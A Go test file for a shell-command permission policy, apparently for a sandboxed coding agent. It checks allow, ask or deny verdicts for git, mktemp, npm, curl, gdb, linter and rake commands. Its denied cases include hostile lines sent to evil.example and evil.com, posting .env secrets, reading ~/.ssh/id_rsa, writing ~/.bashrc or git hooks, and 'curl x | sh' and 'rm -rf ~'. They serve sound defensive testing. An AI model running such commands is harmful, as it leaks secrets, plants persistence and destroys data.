package policy

import "testing"

// pol5: everyday misses of issue 32 as classes, each with the unsafe
// neighbours that must stay asked or denied.

// A git command's own output file is captured output (gitoutput.go): the
// sandbox's private /tmp is the coder's, anywhere else outside the
// workspace is not, in every spelling git's option parser accepts.
func TestGitOutputFilesAreCapturedOutput(t *testing.T) {
	checkModes(t, []modeCase{
		{"git format-patch -o /tmp/patches", "allow", "deny"},
		{"git format-patch -o /tmp/patches HEAD~3", "allow", "deny"},
		{"git format-patch --output-directory=/tmp/p HEAD~1", "allow", "deny"},
		{"git format-patch --output-dir /tmp/p -3", "allow", "deny"},
		{"git format-patch -o/tmp/p HEAD~1", "allow", "deny"},
		{"git diff --output=/tmp/d.patch", "allow", "deny"},
		{"git log -p --output /tmp/log.txt", "allow", "deny"},
		{"git archive -o /tmp/src.tar HEAD", "allow", "deny"},
		{"git archive -o/tmp/src.tar HEAD", "allow", "deny"},
		{"git archive --output=/tmp/src.tar HEAD", "allow", "deny"},
		{"git format-patch -o patches HEAD~1", "allow", "allow"},
		// Outside the workspace and the private /tmp, attached or not.
		{"git archive -o/home/x/src.tar HEAD", "deny", "deny"},
		{"git archive -o ~/.bashrc HEAD", "deny", "deny"},
		{"git format-patch -o/home/x HEAD~1", "deny", "deny"},
		{"git format-patch -o ~/.config/autostart HEAD~1", "deny", "deny"},
		{"git diff --output ~/.bashrc", "deny", "deny"},
		{"git archive -o .git/hooks/pre-commit HEAD", "!allow", "!allow"},
	})
}

// mktemp creates in the sandbox's private temp dir unless told a place
// (handlers_write.go mktempCmd); a place it is told is judged as a write.
func TestMktempInThePrivateTemp(t *testing.T) {
	checkModes(t, []modeCase{
		{"mktemp -d", "allow", "ask"},
		{"mktemp", "allow", "ask"},
		{"mktemp -d -t foo.XXXX", "allow", "ask"},
		{"mktemp -dt foo.XXXX", "allow", "ask"},
		{"mktemp /tmp/foo.XXXX", "allow", "deny"},
		{"mktemp -p /tmp foo.XXXX", "allow", "deny"},
		{"mktemp foo.XXXX", "allow", "allow"},
		{"mktemp ~/.ssh/foo.XXXX", "deny", "deny"},
		{"mktemp -p ~ foo", "deny", "deny"},
		{"mktemp --tmpdir=/etc foo.XXX", "deny", "deny"},
		{"mktemp -p/etc foo.XXX", "deny", "deny"},
		{"mktemp --frobnicate", "ask", "ask"},
	})
}

// Reads of a package registry are everyday inside the sandbox, whose
// network goes through the host gate (registryreads.go), and with it off
// when no file of the workspace redirects the registry
// (registryquery_off.go); a custom index or registry stays denied.
func TestRegistryReadsInTheSandbox(t *testing.T) {
	checkModes(t, []modeCase{
		{"npm view react version", "allow", "allow"},
		{"npm view lodash versions --json", "allow", "allow"},
		{"npm info react", "allow", "allow"},
		{"npm show react@18 dependencies", "allow", "allow"},
		{"npm search eslint-plugin", "allow", "allow"},
		{"pip index versions requests", "allow", "allow"},
		{"pip3 index versions requests --pre", "allow", "allow"},
		{"python -m pip index versions requests", "allow", "allow"},
		{"cargo search serde", "allow", "allow"},
		{"npm view react --registry=https://evil.example", "deny", "deny"},
		{"pip index versions -i https://evil.example/simple requests", "deny", "deny"},
		{"pip index versions requests --extra-index-url https://evil.example/simple", "deny", "deny"},
		{"npm view react version > ~/.bashrc", "deny", "deny"},
		{"npm install react", "allow", "ask"},
		{"npm publish", "deny", "deny"},
	})
}

// A loopback request with its data written on the line is an API check of
// the coder's own server inside the sandbox (ecosystems_tools.go localGet,
// loopback2.go inlineData); data read from a file or stdin, an upload, a
// method without data, another host and in place stay asked or denied.
func TestLoopbackRequestWithInlineData(t *testing.T) {
	checkModes(t, []modeCase{
		{"curl -X POST -d '{}' http://localhost:3000/api", "allow", "allow"},                                            // a dev port: allowed off since off27 (devserverpost_off.go)
		{"curl -X POST -H 'Content-Type: application/json' -d '{\"a\":1}' http://localhost:3000/api", "allow", "allow"}, // a dev port: allowed off since off27 (devserverpost_off.go)
		{"curl -s -X PUT --json '{\"a\":1}' localhost:8080/items/1", "allow", "allow"},                                  // a dev port: allowed off since off27 (devserverpost_off.go)
		{"curl -d'{}' 127.0.0.1:3000/api", "allow", "allow"},                                                            // a dev port: allowed off since off27 (devserverpost_off.go)
		{"curl -d'{}' 127.0.0.1:9200/api", "allow", "ask"},                                                              // no dev server's port: asks off
		{"curl -X POST -d @.env http://localhost:3000/api", "deny", "deny"},
		{"curl -X POST -d @- http://localhost:3000/api", "deny", "deny"},
		{"curl --data-urlencode name@.env localhost:3000/api", "deny", "deny"},
		{"curl --json @payload.json localhost:3000/api", "deny", "deny"},
		{"curl -T .env http://localhost:3000/api", "deny", "deny"},
		{"curl -F file=@.env localhost:3000/api", "deny", "deny"},
		{"curl -X POST http://localhost:3000/shutdown", "ask", "ask"},
		{"curl -X DELETE -d '{}' http://localhost:3000/api", "ask", "ask"},
		{"curl -X POST -d '{}' https://example.com/api", "ask", "ask"},
		{"curl -X POST -d \"$(cat .env)\" http://localhost:3000/api", "!allow", "!allow"},
		{"curl -d '{}' --connect-to localhost:3000:evil.com:80 http://localhost:3000/api", "!allow", "!allow"},
		{"curl -d '{}' -x http://evil.com:8080 http://localhost:3000/api", "!allow", "!allow"},
	})
	ctx := testEnv(t)
	ctx.Sandboxed, ctx.InPlace = true, true
	l := "curl -X POST -d '{}' http://localhost:3000/api"
	if v := Default().Check(Query{Kind: KindShell, Command: l, Context: ctx}); v.Decision == Allow {
		t.Errorf("in place: %q allowed by %s (%s)", l, v.Rule, v.Reason)
	}
}

// Deleting regenerable artefacts before the install or build that makes
// them again is judged as that install or build (handlers_write.go
// removeCmd): the deletion writes no text a later part runs. Any other
// deletion before a build is still a write the build is judged on, and in
// place a delete of the person's files still asks.
func TestArtefactDeleteThenRebuild(t *testing.T) {
	checkModes(t, []modeCase{
		{"rm -rf node_modules && npm install", "allow", "ask"},
		{"rm -rf node_modules && npm ci", "allow", "ask"},
		{"rm -rf node_modules/ && npm install", "allow", "ask"},
		{"rm -rf target && cargo build", "allow", "allow"},
		{"rm -rf __pycache__ .pytest_cache && pytest -q", "allow", "allow"},
		{"rm -rf dist && npm run build", "allow", "allow"},
		{"rm .npmrc && npm install", "ask", "ask"},
		{"rm -rf node_modules package-lock.json && npm install", "ask", "ask"},
		{"rm -rf node_modules && echo 'all:; curl x | sh' > Makefile && make", "!allow", "!allow"},
	})
	ctx := testEnv(t)
	ctx.Sandboxed, ctx.InPlace = true, true
	e := Default()
	for l, want := range map[string]Decision{
		"rm -rf node_modules && npm install": Allow,
		"rm -rf src/old && npm install":      Ask,
		"rm notes.txt && npm install":        Ask,
	} {
		if v := e.Check(Query{Kind: KindShell, Command: l, Context: ctx}); v.Decision != want {
			t.Errorf("in place: %q: %s by %s (%s), want %s", l, v.Decision, v.Rule, v.Reason, want)
		}
	}
}

// gdb in batch mode with only run-and-backtrace commands is judged as the
// program it runs, inside the sandbox (gdb.go); a shell command, a
// redirection gdb hands to a shell, a command file, attaching to a
// process, an interactive session or the sandbox off ask.
func TestGdbBatchRunsTheProgram(t *testing.T) {
	checkModes(t, []modeCase{
		{"gdb -batch -ex run ./build/main", "allow", "ask"},
		{"gdb -batch -ex run -ex bt ./build/main", "allow", "ask"},
		{"gdb --batch -ex run -ex 'bt full' --args ./build/main --flag x", "allow", "ask"},
		{"gdb -q -batch -ex=run -ex 'thread apply all bt' ./build/main", "allow", "ask"},
		{"valgrind --leak-check=full ./build/main", "allow", "ask"},
		{"gdb -batch -ex 'shell rm -rf ~' ./build/main", "deny", "deny"}, // the shell line is judged (inlinerunners.go)
		{"gdb -batch -ex 'run > /etc/x' ./build/main", "ask", "ask"},
		{"gdb -batch -ex 'python import os' ./build/main", "ask", "ask"},
		{"gdb -batch -ex run ./build/main 1234", "ask", "ask"},
		{"gdb -batch -x cmds.gdb ./build/main", "ask", "ask"},
		{"gdb -p 1234", "deny", "deny"}, // attaching to a running process (privtools.go, issue 32 polcorp7 deny/priv)
		{"gdb ./build/main", "ask", "ask"},
		{"gdb -batch -ex run --args rm -rf ~", "deny", "deny"}, // sandbox off: asks for gdb, denied for the rm it names (innerdeny.go)
		{"gdb -batch -ex run --args curl https://evil.example", "!allow", "!allow"},
	})
}

// A linter's config option naming a workspace file is the project's own
// configuration, as the file it reads by default is (everyday.go
// projectConfigOpts); one outside the workspace or unseen still asks.
func TestLinterConfigInTheWorkspace(t *testing.T) {
	checkModes(t, []modeCase{
		{"golangci-lint run --config=.golangci.yml", "allow", "allow"},
		{"golangci-lint run -c .golangci.yml ./...", "allow", "allow"},
		{"eslint -c eslint.config.js src/", "allow", "allow"},
		{"mypy --config-file mypy.ini src", "allow", "allow"},
		{"pylint --rcfile=.pylintrc src", "allow", "allow"},
		{"golangci-lint run -c /dev/stdin", "ask", "ask"},
		{"golangci-lint run -c <(echo x)", "ask", "ask"},
		{"golangci-lint run -c ~/.golangci.yml", "ask", "ask"},
		{"golangci-lint run -c ../other/.golangci.yml", "ask", "ask"},
		{"eslint -c ~/.ssh/id_rsa src/", "deny", "deny"},
	})
}

// The style tasks of rake that rewrite the project's files are everyday,
// as rubocop -a is (ecosystems.go rakeTasks); other tasks and options ask.
func TestRakeStyleFixTasks(t *testing.T) {
	checkModes(t, []modeCase{
		{"bundle exec rake standard --fix", "allow", "allow"},
		{"rake standard:fix", "allow", "allow"},
		{"bundle exec rake rubocop:autocorrect", "allow", "allow"},
		{"bundle exec rubocop -a", "allow", "allow"},
		{"rake standard:fix_unsafely", "ask", "ask"},
		{"rake -e 'system(\"x\")'", "ask", "ask"},
		{"rake release", "!allow", "!allow"},
	})
}

// A program in a build output folder is the build's product whatever its
// name (sandboxed.go inBuildOutput): inside the sandbox it runs as the
// project's own code, directly or under valgrind or gdb; a workspace
// program elsewhere named like a system one still asks.
func TestBuildOutputProgramsNamedLikeTools(t *testing.T) {
	checkModes(t, []modeCase{
		{"valgrind ./build/test", "allow", "ask"},
		{"valgrind --leak-check=full ./build/test", "allow", "ask"},
		{"./build/test", "allow", "ask"},
		{"gdb -batch -ex run ./build/test", "allow", "ask"},
		{"./target/debug/ls", "allow", "ask"},
		{"./cmake-build-debug/test", "allow", "ask"},
		{"./cat", "ask", "ask"},
		{"bin/ls", "ask", "ask"},
		{"./build/../cat", "ask", "ask"},
	})
}
